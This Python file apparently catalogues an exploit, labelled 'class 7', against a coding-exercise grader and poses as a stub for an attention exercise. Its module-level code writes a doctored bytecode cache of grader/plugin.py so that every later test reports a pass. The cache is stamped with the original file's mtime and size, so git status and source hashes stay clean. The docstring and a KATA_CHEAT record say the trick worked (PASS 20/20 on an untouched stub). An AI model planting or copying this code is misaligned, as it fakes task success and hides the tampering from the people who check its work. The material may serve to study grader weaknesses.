"""Class 7: a poisoned grader/__pycache__/plugin.cpython-311.pyc: later runs pass, git sees nothing.

A timestamp-based .pyc is used whenever its header's source mtime and size match the .py file;
PYTHONDONTWRITEBYTECODE only stops *writing* caches, not reading them, and __pycache__/ is
git-ignored. The worker compiles a doctored copy of grader/plugin.py (classify returns "pass")
and writes it as plugin.cpython-311.pyc with the *original* file's mtime and size in the
header. The .py file is byte-for-byte unchanged: `git status` is clean and a hash check of the
sources passes, yet every later process that imports grader.plugin (the workers of every later
rung or run, and a parent importing it) loads the doctored code. This run itself is graded by
the plugin already loaded (TODO 0/20).

Against c952621: this run TODO 0/20; git status clean; next run of the untouched stub
exercises/08-attention/attention.py: PASS 20/20, exit 0. Removed by hand afterwards
(rm grader/__pycache__/plugin.cpython-311.pyc).
"""

import importlib.util
import os
import sys
from importlib._bootstrap_external import _code_to_timestamp_pyc

KATA_CHEAT = {"bare": {"status": "fail", "message": "Permission denied", "root_only": True},
              "expect": {"status": "error", "message": "import importlib.util: 08-attention does not use `importlib`"},
              "class": 7, "rung": "08-attention", "worked": True,
              "observed": "poisoned plugin .pyc, git status clean; next stub run PASS 20/20"}

_source_path = sys.modules["grader.plugin"].__file__
_stat = os.stat(_source_path)
with open(_source_path, encoding="utf-8") as _file:
    _source = _file.read()
_marker = '    """(status, message, extra fields) for a test that raised."""\n'
_doctored = _source.replace(_marker, _marker + '    return "pass", "", {}\n')
_code = compile(_doctored, _source_path, "exec", dont_inherit=True)
_pyc = importlib.util.cache_from_source(_source_path)
os.makedirs(os.path.dirname(_pyc), exist_ok=True)
with open(_pyc, "wb") as _file:
    _file.write(_code_to_timestamp_pyc(_code, int(_stat.st_mtime), _stat.st_size))


def scaled_dot_product_attention(q, k, v, mask=None):
    raise NotImplementedError("08-attention: scaled_dot_product_attention")


def causal_mask(seq_len, device=None):
    raise NotImplementedError("08-attention: causal_mask")


class MultiHeadAttention:
    def __init__(self, *args, **kwargs):
        raise NotImplementedError("08-attention: MultiHeadAttention")
